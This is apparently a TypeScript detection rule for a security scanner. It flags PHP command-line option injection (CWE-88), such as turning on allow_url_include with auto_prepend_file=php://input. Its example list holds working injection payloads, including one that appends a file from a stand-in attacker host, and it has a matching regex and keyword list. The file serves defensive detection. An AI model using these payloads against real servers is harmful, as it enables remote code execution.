import { confidence } from '../../placement/confidence.ts';
import { foundBy } from '../../placement/evidence.ts';
import { wordList } from '../../text/words.ts';
import type { ValueRule } from '../rule.ts';

/** `-d allow_url_include=1 -d auto_prepend_file=php://input`: options for PHP's command line. */
export const phpOption: ValueRule = {
  id: 'code.php-option',
  cwe: 'CWE-88',
  severity: 'critical',
  score: confidence.certain,
  message: 'switches PHP options on that make it run the body of the request',
  trigger: {
    literals: [
      wordList(
        'allow_url_include auto_prepend_file auto_append_file disable_functions',
        'open_basedir safe_mode suhosin.simulation cgi.force_redirect',
      ),
    ],
  },
  judge: ({ text }) => foundBy(option.exec(text)),
  examples: [
    '-d allow_url_include=on -d auto_prepend_file=php://input',
    'allow_url_include=1&auto_prepend_file=data://text/plain,x',
    '-dauto_append_file=http://evil.example.com/a',
    '-d disable_functions= -d open_basedir=none',
  ],
  lookalikes: [
    'Set allow_url_include = Off in php.ini',
    'auto_prepend_file = none',
    'What is disable_functions for?',
    'my host has open_basedir on',
  ],
};

const option =
  /(?:auto_(?:prepend|append)_file {0,2}= {0,2}["']?(?:php:|data:|https?:|ftp:|\/|\.\.)|-d ?(?:allow_url_(?:include|fopen)|auto_(?:prepend|append)_file|disable_functions|open_basedir|safe_mode|suhosin\.simulation|cgi\.force_redirect)=)[^\s]{0,80}/i;
